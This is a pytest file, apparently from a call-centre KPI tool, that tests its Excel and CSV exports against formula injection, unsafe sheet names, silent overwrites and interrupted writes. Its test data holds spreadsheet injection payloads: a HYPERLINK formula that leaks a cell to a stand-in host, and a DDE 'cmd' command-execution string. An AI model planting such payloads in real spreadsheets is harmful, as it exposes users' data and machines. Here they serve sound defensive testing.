"""Excel and CSV exports: uploaded text stays text (no formula cells, OWASP prefix in CSV), sheet
names are safe and distinct, existing files are not overwritten silently, and every write
(Excel reports, regenerated datasets) is atomic."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pandas as pd
import pytest

from ccskills import io as cio
from ccskills.kpi import read_call_records
from ccskills.datasets import _csv

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "#DIV/0!",
    "售前",
]


def _hostile_frame() -> pd.DataFrame:
    return pd.DataFrame({"队列": HOSTILE, "来电": [1, -2.5, 3, 4, 5, 6, 7, 8],
                         "=SUM(1,2)": ["x"] * len(HOSTILE)})


def _sheet_xml(data: bytes) -> list[bytes]:
    book = zipfile.ZipFile(io.BytesIO(data))
    return [book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/")]


def test_no_text_cell_becomes_a_formula_in_the_xml():
    data = cio.excel_bytes({"calls": _hostile_frame()})
    for xml in _sheet_xml(data):
        assert re.search(rb"<(\w+:)?f[\s>]", xml) is None  # no formula element anywhere
        assert b't="e"' not in xml  # "#DIV/0!" is text, not an error cell


def test_text_reads_back_as_typed_numbers_as_numbers_and_risky_text_is_quote_prefixed():
    ws = openpyxl.load_workbook(io.BytesIO(cio.excel_bytes({"calls": _hostile_frame()})))["calls"]
    assert ws["C1"].value == "=SUM(1,2)" and ws["C1"].data_type == "s"
    for row, text in enumerate(HOSTILE, start=2):
        cell = ws[f"A{row}"]
        assert (cell.value, cell.data_type) == (text, "s")
        assert cell.quotePrefix == (text[0] in "=+-@\t")  # 售前 and #DIV/0! need no prefix
    assert [ws[f"B{r}"].value for r in range(2, 4)] == [1, -2.5]
    assert ws["B3"].data_type == "n"


def test_pandas_reads_the_export_back_equal():
    frame = _hostile_frame()
    back = pd.read_excel(io.BytesIO(cio.excel_bytes({"calls": frame})), dtype={"队列": str})
    assert back["队列"].tolist() == HOSTILE
    assert back["来电"].tolist() == [1, -2.5, 3, 4, 5, 6, 7, 8]


def test_control_characters_are_dropped_not_a_crash():
    ws = openpyxl.load_workbook(io.BytesIO(cio.excel_bytes({"s": pd.DataFrame({"a": ["x\x00y", "ok"]})})))
    assert ws["s"]["A2"].value == "xy"


def test_csv_export_prefixes_formula_text_and_keeps_numbers():
    data = cio.csv_bytes(_hostile_frame())
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark, for Excel
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["队列", "来电", "'=SUM(1,2)"]
    assert [r[0] for r in rows[1:]] == ["'" + t if t[0] in "=+-@\t" else t for t in HOSTILE]
    assert [r[1] for r in rows[1:3]] == ["1.0", "-2.5"]  # numbers are not prefixed
    assert cio.neutralise_text("-3") == "-3" and cio.neutralise_text("\r=1") == "'\r=1"


def test_sheet_names_are_cleaned_cut_and_never_merged():
    long = "售前队列每周服务水平与放弃率按时段汇总明细表第一部分共三十五个字符长"
    assert len(long) > 31
    sheets = {"a/b": pd.DataFrame({"v": [1]}), "a:b": pd.DataFrame({"v": [2]}),
              long: pd.DataFrame({"v": [3]}), long + "二": pd.DataFrame({"v": [4]}),
              "[x]*?\\": pd.DataFrame({"v": [5]})}
    book = openpyxl.load_workbook(io.BytesIO(cio.excel_bytes(sheets)))
    names = book.sheetnames
    assert names == ["a_b", "a_b~2", long[:31], long[:29] + "~2", "_x____"]
    assert all(len(n) <= 31 for n in names)
    assert [book[n]["A2"].value for n in names] == [1, 2, 3, 4, 5]  # five tables, five sheets


def test_number_formats_follow_a_renamed_sheet():
    data = cio.excel_bytes({"SL/日": pd.DataFrame({"sl": [0.8]})}, number_formats={"SL/日": {"sl": "0.0%"}})
    assert openpyxl.load_workbook(io.BytesIO(data))["SL_日"]["A2"].number_format == "0.0%"


def test_write_excel_refuses_to_overwrite_unless_told(tmp_path):
    target = tmp_path / "日报.xlsx"
    target.write_bytes(b"the user's own file")
    with pytest.raises(FileExistsError) as info:
        cio.write_excel(target, {"a": pd.DataFrame({"v": [1]})})
    assert str(target) in str(info.value) and info.value.filename == str(target)
    assert target.read_bytes() == b"the user's own file"
    assert [p.name for p in tmp_path.iterdir()] == ["日报.xlsx"]
    cio.write_excel(target, {"a": pd.DataFrame({"v": [1]})}, overwrite=True)
    assert openpyxl.load_workbook(target)["a"]["A2"].value == 1
    fresh = cio.write_excel(tmp_path / "new.xlsx", {"a": pd.DataFrame({"v": [2]})})
    assert openpyxl.load_workbook(fresh)["a"]["A2"].value == 2
    assert sorted(p.name for p in tmp_path.iterdir()) == ["new.xlsx", "日报.xlsx"]


def test_no_clobber_holds_at_the_rename_too(tmp_path, monkeypatch):
    # the file appears between the first check and the rename: still not replaced
    target = tmp_path / "out.xlsx"
    real_fsync = cio._atomic._fsync

    def appear_then_fsync(path):
        target.write_bytes(b"someone else's")
        real_fsync(path)

    monkeypatch.setattr(cio._atomic, "_fsync", appear_then_fsync)
    with pytest.raises(FileExistsError):
        cio.write_excel(target, {"a": pd.DataFrame({"v": [1]})})
    assert target.read_bytes() == b"someone else's" and len(list(tmp_path.iterdir())) == 1


def test_an_interrupted_dataset_write_leaves_the_original_whole(tmp_path, monkeypatch):
    target = tmp_path / "calls.csv"
    target.write_text("call_id\nC1\n", encoding="utf-8")
    real_to_csv = pd.DataFrame.to_csv

    def half_then_fail(self, path, *args, **kwargs):
        with open(path, "w", encoding="utf-8") as out:
            out.write("call_id\nC9")  # half a file ...
        raise KeyboardInterrupt  # ... then the user presses Ctrl-C

    monkeypatch.setattr(pd.DataFrame, "to_csv", half_then_fail)
    with pytest.raises(KeyboardInterrupt):
        _csv.write_csv(pd.DataFrame({"call_id": ["C9", "C10"]}), target)
    assert target.read_text(encoding="utf-8") == "call_id\nC1\n"
    assert [p.name for p in tmp_path.iterdir()] == ["calls.csv"]
    monkeypatch.setattr(pd.DataFrame, "to_csv", real_to_csv)
    _csv.write_tables({"calls": pd.DataFrame({"call_id": ["C9", "C10"]})}, {"calls": "calls.csv"}, tmp_path)
    assert target.read_text(encoding="utf-8") == "call_id\nC9\nC10\n"
    assert [p.name for p in tmp_path.iterdir()] == ["calls.csv"]


def test_an_uploaded_hostile_queue_name_never_reaches_the_kpi_report_as_a_formula():
    # the path end to end: upload -> KPI report -> Excel export
    from ccskills import kpi
    from ccskills.kpi_charts import report_excel_bytes

    header = "call_id,queue,arrival,outcome,wait_s,talk_s,hold_s,acw_s,agent_id,transferred\n"
    queues = ['=HYPERLINK("http://x.example/?"&A1,"click")', "=cmd|' /C calc'!A0"]
    rows = "".join(f'C{i},"{q.replace(chr(34), chr(34) * 2)}",2026-03-02 08:0{i}:00,answered,5,100,0,10,P1,no\n'
                   for i, q in enumerate(queues))
    records = read_call_records((header + rows).encode("utf-8"), "calls.csv")
    assert records["queue"].tolist() == queues
    data = report_excel_bytes(kpi.kpi_report(records, "D", "2026-03-02"), "en")
    xml = b"".join(_sheet_xml(data))
    assert re.search(rb"<(\w+:)?f[\s>]", xml) is None
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts = [c.value for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any("HYPERLINK" in t for t in texts)  # the name is there, as text
